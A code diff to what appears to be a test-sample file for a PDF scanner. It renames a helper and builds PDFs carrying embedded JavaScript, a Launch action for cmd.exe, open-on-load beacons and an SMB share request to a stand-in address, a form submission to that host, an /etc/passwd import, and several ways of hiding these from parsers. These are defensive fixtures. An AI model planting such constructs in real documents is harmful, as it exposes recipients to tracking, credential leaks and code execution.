@@ -1,4 +1,4 @@
-import { createCatalog, formObjects, page, pdf, pdfWithLink } from './pdf-pages'
+import { createCatalog, createPdf, formObjects, page, pdfWithLink } from './pdf-pages'
 import { appendUpdate, packObjects } from './pdf-shapes'
 import { badSample, encodeLatin1, type Sample } from './sample'
 
@@ -6,12 +6,14 @@ const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
 const launch = '<< /S /Launch /F (cmd.exe) >>'
 
 export const pdfScripts: Sample[] = [
-  badSample('script', 'script.pdf', 'a script on opening', () => pdf({}, `/OpenAction ${script}`)),
+  badSample('script', 'script.pdf', 'a script on opening', () => createPdf({}, `/OpenAction ${script}`)),
   badSample('script', 'names.pdf', 'a script among the names', () =>
-    pdf({ 6: '<< /Names [(a) 7 0 R] >>', 7: script }, '/Names << /JavaScript 6 0 R >>'),
+    createPdf({ 6: '<< /Names [(a) 7 0 R] >>', 7: script }, '/Names << /JavaScript 6 0 R >>'),
   ),
   badSample('script', 'link.pdf', 'a script on a link', pdfWithLink(script)),
-  badSample('script', 'form.pdf', 'a script in a form', () => pdf({ ...formObjects, 6: `<< /FT /Tx /T (a) /AA << /K ${script} >> >>` })),
+  badSample('script', 'form.pdf', 'a script in a form', () =>
+    createPdf({ ...formObjects, 6: `<< /FT /Tx /T (a) /AA << /K ${script} >> >>` }),
+  ),
   badSample('script', 'escaped.pdf', 'its name written with escapes', pdfWithLink('<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>')),
   badSample('script', 'packed.pdf', 'packed away', () => packObjects({ ...page, 1: createCatalog(`/OpenAction ${script}`) })),
   badSample('script', 'packed-escaped.pdf', 'packed away with escapes', () => packObjects({ ...page, 6: '<< /S /#4aavaScript >>' })),
@@ -19,38 +21,40 @@ export const pdfScripts: Sample[] = [
     packObjects({ ...page, 6: script }, { type: '' }),
   ),
   badSample('script', 'packed-update.pdf', 'packed away as a later version', () =>
-    Buffer.concat([pdf(), packObjects({ 9: script }).subarray(15)]),
+    Buffer.concat([createPdf(), packObjects({ 9: script }).subarray(15)]),
   ),
-  badSample('script', 'before.pdf', 'in a version that was replaced', () => appendUpdate(pdf({ 6: script }), { 6: 'null' })),
-  badSample('script', 'update.pdf', 'in a version behind', () => appendUpdate(pdf(), { 1: createCatalog(`/OpenAction ${script}`) })),
+  badSample('script', 'before.pdf', 'in a version that was replaced', () => appendUpdate(createPdf({ 6: script }), { 6: 'null' })),
+  badSample('script', 'update.pdf', 'in a version behind', () => appendUpdate(createPdf(), { 1: createCatalog(`/OpenAction ${script}`) })),
   badSample('script', 'inside.pdf', 'inside of the bytes of a picture', () =>
-    pdf({ 6: { dict: '/Subtype /Image', bytes: encodeLatin1(`x\n9 0 obj\n${script}\nendobj\n`) } }),
+    createPdf({ 6: { dict: '/Subtype /Image', bytes: encodeLatin1(`x\n9 0 obj\n${script}\nendobj\n`) } }),
   ),
-  badSample('script', 'unclosed.pdf', 'behind a text that never ends', () => pdf({ 6: '(never closed', 7: script })),
+  badSample('script', 'unclosed.pdf', 'behind a text that never ends', () => createPdf({ 6: '(never closed', 7: script })),
   badSample('script', 'comment.pdf', 'behind a comment between the words of an object', () =>
-    encodeLatin1(pdf({ 6: script }).toString('latin1').replace('6 0 obj\n', '6 0 %\nobj\n')),
+    encodeLatin1(createPdf({ 6: script }).toString('latin1').replace('6 0 obj\n', '6 0 %\nobj\n')),
   ),
-  badSample('script', 'broken.pdf', 'in an object that breaks off', () => pdf({ 6: '<< /A << /B [ 1 2 /S /JavaScript' })),
+  badSample('script', 'broken.pdf', 'in an object that breaks off', () => createPdf({ 6: '<< /A << /B [ 1 2 /S /JavaScript' })),
   badSample('script', 'uri.pdf', 'a link that is a script', pdfWithLink('<< /S /URI /URI (\\152avascript:alert(1)) >>')),
 ]
 
 export const pdfActions: Sample[] = [
-  badSample('launch', 'launch.pdf', 'a program to start', () => pdf({}, `/OpenAction ${launch}`)),
+  badSample('launch', 'launch.pdf', 'a program to start', () => createPdf({}, `/OpenAction ${launch}`)),
   badSample('launch', 'launch-link.pdf', 'a program to start, on a link', pdfWithLink(launch)),
   badSample('launch', 'launch-packed.pdf', 'a program to start, packed away', () => packObjects({ ...page, 6: launch })),
-  badSample('opening', 'beacon.pdf', 'a page fetched on opening', () => pdf({}, '/OpenAction << /S /URI /URI (http://192.0.2.1/) >>')),
+  badSample('opening', 'beacon.pdf', 'a page fetched on opening', () =>
+    createPdf({}, '/OpenAction << /S /URI /URI (http://192.0.2.1/) >>'),
+  ),
   badSample('opening', 'beacon-ref.pdf', 'a page fetched on opening, by reference', () =>
-    pdf({ 6: '<< /S /URI /URI (http://192.0.2.1/) >>' }, '/OpenAction 6 0 R'),
+    createPdf({ 6: '<< /S /URI /URI (http://192.0.2.1/) >>' }, '/OpenAction 6 0 R'),
   ),
   badSample('opening', 'chain.pdf', 'a share asked on opening, in a chain', () =>
-    pdf({}, '/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) >> >>'),
+    createPdf({}, '/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) >> >>'),
   ),
   badSample('opening', 'pages.pdf', 'a page fetched whenever a page is shown', () =>
-    pdf({ 3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >> >>' }),
+    createPdf({ 3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >> >>' }),
   ),
   badSample('sends', 'submit.pdf', 'a form that sends', pdfWithLink('<< /S /SubmitForm /F (http://192.0.2.1/) >>')),
   badSample('sends', 'import.pdf', 'a form that reads files', pdfWithLink('<< /S /ImportData /F (/etc/passwd) >>')),
   badSample('form', 'xfa.pdf', 'a dynamic form', () =>
-    pdf({ 6: { dict: '', bytes: encodeLatin1('<xdp:xdp/>') } }, '/AcroForm << /XFA 6 0 R >>'),
+    createPdf({ 6: { dict: '', bytes: encodeLatin1('<xdp:xdp/>') } }, '/AcroForm << /XFA 6 0 R >>'),
   ),
 ]
